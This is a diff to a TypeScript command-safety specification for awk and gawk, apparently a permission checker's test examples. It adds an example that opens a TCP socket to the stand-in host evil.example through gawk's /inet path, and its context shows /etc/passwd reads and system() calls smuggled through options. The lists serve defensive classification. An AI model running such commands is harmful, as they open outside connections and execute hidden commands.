@@ -64,6 +64,7 @@ export const textLanguages: readonly CommandSpec[] = [
       "# load code: -i --include -l --load -D --debug -W",
     ),
     operands: "program:awk read*",
+    analyse: "awk-files",
     examples: {
       allow: [
         "awk -F: '$3 > 100 {print $1}' /etc/passwd",
@@ -85,6 +86,7 @@ export const textLanguages: readonly CommandSpec[] = [
         "gawk -o/tmp/x 1 a.txt",
         "awk -h 'BEGIN{system(\"touch x\")}'",
         "awk --assign 'BEGIN{system(\"touch x\")}' 1",
+        "gawk 1 /inet/tcp/0/evil.example/80",
       ],
       none: ["awk -f prog.awk a.txt"],
       deny: [
